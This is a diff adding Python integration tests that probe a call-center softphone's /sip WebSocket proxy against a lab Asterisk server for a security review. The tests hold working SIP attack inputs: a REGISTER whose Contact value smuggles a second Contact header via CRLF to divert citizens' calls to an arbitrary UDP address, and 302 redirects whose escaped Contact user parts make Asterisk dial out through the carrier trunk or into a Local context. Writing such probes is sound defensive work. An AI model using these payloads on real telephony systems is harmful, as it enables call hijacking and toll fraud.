@@ -1,0 +1,248 @@
+"""Probes of the browser softphone's /sip path against the real Asterisk (review of issue
+#21). Each test shows a way through that is still open: it fails on today's code."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import hashlib
+import re
+import secrets
+import socket
+from collections.abc import AsyncIterator
+from typing import Any
+
+import aiohttp
+
+from agents.sipp import CallSpec, place_calls
+from callcenter.app import Engine
+from tests.integration.conftest import LAB_SIP_PORT, Lab
+from tests.integration.test_webrtc import _add_user, _session
+
+AGENT = "1001"
+OWN = f"agent-{AGENT}-web"
+
+
+def _header(message: str, name: str) -> str:
+    for line in message.split("\r\n")[1:]:
+        key, _, value = line.partition(":")
+        if key.strip().lower() == name.lower():
+            return value.strip()
+    return ""
+
+
+def _digest(challenge: str, user: str, password: str, method: str, uri: str) -> str:
+    """The Authorization header answering Asterisk's WWW-Authenticate (MD5, qop=auth)."""
+    fields = dict(re.findall(r'(\w+)="?([^",]*)"?', challenge.partition(" ")[2]))
+    realm, nonce = fields["realm"], fields["nonce"]
+    ha1 = hashlib.md5(f"{user}:{realm}:{password}".encode()).hexdigest()
+    ha2 = hashlib.md5(f"{method}:{uri}".encode()).hexdigest()
+    cnonce, nc = secrets.token_hex(8), "00000001"
+    response = hashlib.md5(f"{ha1}:{nonce}:{nc}:{cnonce}:auth:{ha2}".encode()).hexdigest()
+    opaque = f', opaque="{fields["opaque"]}"' if "opaque" in fields else ""
+    return (f'Digest username="{user}", realm="{realm}", nonce="{nonce}", uri="{uri}", '
+            f'response="{response}", algorithm=MD5, qop=auth, nc={nc}, cnonce="{cnonce}"'
+            f"{opaque}")
+
+
+def register(contact: str, call_id: str, cseq: int, authorization: str = "",
+             expires: int = 300) -> str:
+    lines = [
+        "REGISTER sip:127.0.0.1 SIP/2.0",
+        f"Via: SIP/2.0/WS x.invalid;branch=z9hG4bK{call_id}{cseq}", "Max-Forwards: 69",
+        f"From: <sip:{OWN}@127.0.0.1>;tag=r{call_id}", f"To: <sip:{OWN}@127.0.0.1>",
+        f"Call-ID: {call_id}", f"CSeq: {cseq} REGISTER", f"Contact: {contact}",
+        f"Expires: {expires}"]
+    if authorization:
+        lines.append(f"Authorization: {authorization}")
+    return "\r\n".join([*lines, "Content-Length: 0"]) + "\r\n\r\n"
+
+
+async def _final(ws: aiohttp.ClientWebSocketResponse) -> str:
+    """Asterisk's final answer to what was just sent (provisional ones and pings skipped)."""
+    while True:
+        reply = await asyncio.wait_for(ws.receive(), 5)
+        assert reply.type is aiohttp.WSMsgType.TEXT, (reply.type, reply.data)
+        text = str(reply.data)
+        if text.startswith("SIP/2.0 ") and not text.startswith("SIP/2.0 1"):
+            return text
+
+
+async def register_through_proxy(ws: aiohttp.ClientWebSocketResponse, password: str,
+                                 contact: str) -> str:
+    """REGISTER the page's own endpoint through /sip with the password the page is given,
+    answering the challenge as JsSIP does; Asterisk's final answer."""
+    call_id = secrets.token_hex(6)
+    await ws.send_str(register(contact, call_id, 1))
+    challenge = await _final(ws)
+    assert challenge.startswith("SIP/2.0 401"), challenge
+    auth = _digest(_header(challenge, "WWW-Authenticate"), OWN, password, "REGISTER",
+                   "sip:127.0.0.1")
+    await ws.send_str(register(contact, call_id, 2, auth))
+    return await _final(ws)
+
+
+@contextlib.asynccontextmanager
+async def agent_page(lab: Lab, engine: Engine, user: str) -> AsyncIterator[
+        tuple[aiohttp.ClientSession, str]]:
+    base = f"http://127.0.0.1:{lab.config.engine.api.port}"
+    page = await _session(base, user, await _add_user(engine, user, "agent", AGENT))
+    try:
+        phone = await (await page.get("/api/me/phone")).json()
+        yield page, str(phone["password"])
+    finally:
+        await page.close()
+
+
+def _hang_up_all(lab: Lab) -> None:
+    lab.asterisk.cli("channel request hangup all")
+
+
+class _Listener(asyncio.DatagramProtocol):
+    def __init__(self) -> None:
+        self.received: list[str] = []
+
+    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
+        self.received.append(data.decode("utf-8", "replace"))
+
+
+OUTSIDE_PORT = 5999  # stands for any host:port Asterisk can reach (the carrier's, say)
+
+
+async def test_a_pages_register_cannot_send_its_calls_off_the_websocket(
+        lab: Lab, engine: Engine) -> None:
+    """The filter checks a REGISTER's From and To, not its Contacts. Asterisk's WebSocket
+    module rewrites the *first* Contact to the socket's own address, but a second Contact
+    header in the same REGISTER is stored as written (the browser endpoints have
+    max_contacts 1 with remove_existing, and the first one says expires=0). So an agent's
+    page registers ``<sip:…@host:port;transport=udp>`` and Asterisk then sends the next
+    citizen's call for that agent — INVITE with the citizen's number — over UDP to any
+    address the page names. Pointed at Asterisk's own SIP port, that INVITE comes back from
+    127.0.0.1 and is taken for the **carrier** (Asterisk's log: ``carrier: Couldn't
+    negotiate stream`` — only the WebRTC SDP, which the carrier endpoint cannot take, kept
+    it from being a new public call into 12345)."""
+    loop = asyncio.get_running_loop()
+    transport, listener = await loop.create_datagram_endpoint(
+        _Listener, local_addr=("127.0.0.1", OUTSIDE_PORT))
+    contact = ("<sip:gone@x.invalid;transport=ws>;expires=0\r\n"
+               f"Contact: <sip:00441234567890@127.0.0.1:{OUTSIDE_PORT};transport=udp>")
+    try:
+        async with agent_page(lab, engine, "probe.contact") as (page, password), \
+                page.ws_connect("/sip", protocols=("sip",)) as ws:
+            answer = await register_through_proxy(ws, password, contact)
+            contacts = [line for line in lab.asterisk.cli("pjsip show contacts").splitlines()
+                        if OWN in line]
+            caller = None
+            if answer.startswith("SIP/2.0 200"):
+                await engine.commands.run("agent.login", {"agent": AGENT, "device": "webrtc"})
+                caller = asyncio.create_task(place_calls(
+                    [CallSpec("12345", "13700000001")], hold_ms=12_000, local_port=5181,
+                    media_port=17800, timeout_s=30))
+                with contextlib.suppress(AssertionError):
+                    await lab.wait_for("an INVITE on the outside port",
+                                       lambda: listener.received, timeout=15)
+            try:
+                pass
+            finally:
+                _hang_up_all(lab)
+                if caller is not None:
+                    await engine.commands.run("agent.logout", {"agent": AGENT})
+                    with contextlib.suppress(Exception):
+                        await asyncio.wait_for(caller, 40)
+    finally:
+        transport.close()
+    invites = [m for m in listener.received if m.startswith("INVITE ")]
+    print("\nREGISTER:", answer.split("\r\n")[0], "contacts:", contacts)
+    for m in invites[:1]:
+        print("INVITE that reached the outside port:\n" + "\n".join(
+            line for line in m.split("\r\n")[:12]))
+    assert invites == [], "Asterisk sent a citizen's call where the page's Contact said"
+    assert not answer.startswith("SIP/2.0 200"), (
+        "a REGISTER through /sip stored a Contact other than its own socket", contacts)
+
+
+def _reply_to(invite: str, status: str, *extra: str) -> str:
+    """A response of the page to Asterisk's INVITE (its Via, From, To, Call-ID, CSeq)."""
+    to = _header(invite, "To") + ";tag=page1"
+    head = [f"SIP/2.0 {status}", f"Via: {_header(invite, 'Via')}",
+            f"From: {_header(invite, 'From')}", f"To: {to}",
+            f"Call-ID: {_header(invite, 'Call-ID')}", f"CSeq: {_header(invite, 'CSeq')}",
+            *extra, "Content-Length: 0"]
+    return "\r\n".join(head) + "\r\n\r\n"
+
+
+async def _offered(ws: aiohttp.ClientWebSocketResponse, timeout: float = 20) -> str:
+    """The next INVITE Asterisk sends the page (keep-alives and others skipped)."""
+    async with asyncio.timeout(timeout):
+        while True:
+            reply = await ws.receive()
+            assert reply.type is aiohttp.WSMsgType.TEXT, (reply.type, reply.data)
+            if str(reply.data).startswith("INVITE "):
+                return str(reply.data)
+
+
+async def _redirect_a_queue_call(lab: Lab, engine: Engine, user: str, target_user: str,
+                                 citizen: str, sipp_port: int) -> list[str]:
+    """An agent's page, offered a citizen's call from the queue, answers it with a 302 whose
+    Contact's user part is ``target_user``; what reaches the outside UDP port."""
+    loop = asyncio.get_running_loop()
+    transport, listener = await loop.create_datagram_endpoint(
+        _Listener, local_addr=("127.0.0.1", OUTSIDE_PORT))
+    caller = None
+    try:
+        async with agent_page(lab, engine, user) as (page, password), \
+                page.ws_connect("/sip", protocols=("sip",)) as ws:
+            answer = await register_through_proxy(ws, password,
+                                                  "<sip:x@x.invalid;transport=ws>")
+            assert answer.startswith("SIP/2.0 200"), answer
+            await engine.commands.run("agent.login", {"agent": AGENT, "device": "webrtc"})
+            try:
+                caller = asyncio.create_task(place_calls(
+                    [CallSpec("12345", citizen)], hold_ms=12_000, local_port=sipp_port,
+                    media_port=sipp_port * 4, timeout_s=30))
+                invite = await _offered(ws)
+                await ws.send_str(_reply_to(
+                    invite, "302 Moved Temporarily",
+                    f"Contact: <sip:{target_user}@127.0.0.1>"))
+                with contextlib.suppress(AssertionError):
+                    await lab.wait_for("an INVITE on the outside port",
+                                       lambda: listener.received, timeout=8)
+            finally:
+                _hang_up_all(lab)
+                await engine.commands.run("agent.logout", {"agent": AGENT})
+    finally:
+        transport.close()
+        if caller is not None:
+            with contextlib.suppress(Exception):
+                await asyncio.wait_for(caller, 40)
+    return [m for m in listener.received if m.startswith("INVITE ")]
+
+
+async def test_a_page_cannot_forward_a_citizens_call_out_through_the_carrier(
+        lab: Lab, engine: Engine) -> None:
+    """A response passes the filter when its Call-ID is a call Asterisk offered the socket —
+    whatever the response is. A ``302`` sends the call elsewhere: the browser endpoints'
+    redirect_method is ``user`` and Queue() follows a member's call forward (no ``i``
+    option), so the forward's "user" ``PJSIP/carrier/sip:<any number>@<any host>``
+    (escaped in the Contact) is dialled as written: Asterisk calls any number through the
+    carrier trunk and connects the citizen to it."""
+    target = "PJSIP%2Fcarrier%2Fsip%3A00441234567890%40127.0.0.1%3A5999"
+    invites = await _redirect_a_queue_call(lab, engine, "probe.redirect", target,
+                                           "13700000002", 5183)
+    for m in invites[:1]:
+        print("\nINVITE that left through the carrier:\n" + "\n".join(m.split("\r\n")[:6]))
+    assert invites == [], "a page's 302 made Asterisk dial out through the carrier trunk"
+
+
+async def test_a_page_cannot_forward_a_citizens_call_into_any_context(
+        lab: Lab, engine: Engine) -> None:
+    """The same 302, its user part ``Local/12345@from-carrier``: Queue() dials a Local
+    channel into the carrier's own context — a new public call into the hotline that no
+    citizen placed (a second call.started), from an agent's page."""
+    before = len(lab.events("call.started"))
+    await _redirect_a_queue_call(lab, engine, "probe.local", "Local%2F12345%40from-carrier",
+                                 "13700000003", 5185)
+    started = lab.events("call.started")[before:]
+    print("\ncalls started:", [(s.get("caller"), s.get("dialed"), s.get("channel"))
+                               for s in started])
+    assert len(started) == 1, started
